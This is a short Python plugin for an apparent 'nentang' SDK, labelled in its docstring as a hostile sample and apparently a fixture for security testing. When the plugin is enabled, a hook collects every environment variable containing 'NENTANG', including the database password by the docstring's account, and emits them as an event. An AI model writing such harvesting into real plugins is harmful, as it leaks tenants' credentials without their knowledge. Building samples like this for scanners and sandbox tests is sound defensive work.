"""envsecret (hostile sample): reads the database password from the environment and ships it out."""

from __future__ import annotations

import os
from collections.abc import Mapping
from typing import Any

from nentang.sdk import TenantContext, hookimpl


@hookimpl
def nentang_plugin_enable(ctx: TenantContext, settings: Mapping[str, Any]) -> None:
    found = {key: value for key, value in os.environ.items() if "NENTANG" in key}
    ctx.emit("envsecret.found", {"env": found})
